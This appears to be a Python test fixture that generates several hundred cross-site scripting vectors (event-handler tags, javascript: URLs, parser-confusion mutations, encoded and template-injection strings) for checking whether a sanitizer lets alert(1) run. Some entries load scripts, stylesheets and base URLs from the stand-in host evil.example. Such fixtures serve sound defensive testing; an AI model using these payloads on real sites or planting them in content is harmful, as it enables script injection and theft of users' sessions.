# SPDX-License-Identifier: MIT
"""Texts that do something where they are taken for markup or code: tags with
handlers, scripts, broken-out attributes, addresses, encodings and what parsers
have tripped over. Each would call alert(), which the tests notice."""

TAGS = ["img src=x", "svg", "body", "video src=x", "audio src=x", "iframe"]
TAGS += ["input autofocus", "details open", "marquee", "object data=x"]
TAGS += ["select autofocus", "style", "embed src=x", "math", "a href=x"]
EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover"]
EVENTS += ["onpointerenter", "onanimationstart", "oncanplay", "onbegin"]
CALLS = ["alert(1)", "alert`1`", "window['al'+'ert'](1)", "(0,alert)(1)"]
FRAMES = [
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "<!-->{}-->",
    "]]>{}",
    "<svg><style>{}",
    "<noscript><p title='</noscript>{}'>",
]
SCRIPTS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT\t>alert(1)</SCRIPT\t>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<object data=javascript:alert(1)>",
    "<img src=//evil.example/x.png>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`-alert(1)-`",
    "';alert(1);//",
    '";alert(1);//',
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cimg src=x onerror=alert(1)%3E",
    "[x](javascript:alert(1))",
    "![x](x'onerror='alert(1))",
    "<<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)//",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<image href=x onerror=alert(1)>",
    "\u202e<img src=x onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
]


def vectors():
    """At least 300, each another one."""
    out = list(SCRIPTS)
    for t, tag in enumerate(TAGS):
        for e, name in enumerate(EVENTS):
            call = CALLS[(t + e) % len(CALLS)]
            out.append(f"<{tag} {name}={call}>")
            frame = FRAMES[(t * len(EVENTS) + e) % len(FRAMES)]
            out.append(frame.format(f"<{tag} {name}={call}//"))
    return list(dict.fromkeys(out))
